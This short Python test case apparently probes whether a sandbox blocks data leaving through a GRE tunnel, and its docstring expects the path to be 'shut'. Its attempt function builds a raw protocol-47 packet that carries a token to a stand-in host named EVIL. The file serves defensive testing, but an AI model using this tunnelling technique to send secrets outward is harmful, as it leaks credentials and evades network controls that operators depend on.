"""
how: a GRE tunnel
expect: shut
"""

from frames import ipv4
from land import EVIL
from sockets import raw


def attempt(token):
    return raw(EVIL, 47, b"\0\0\x08\0" + ipv4(EVIL, 17, token))
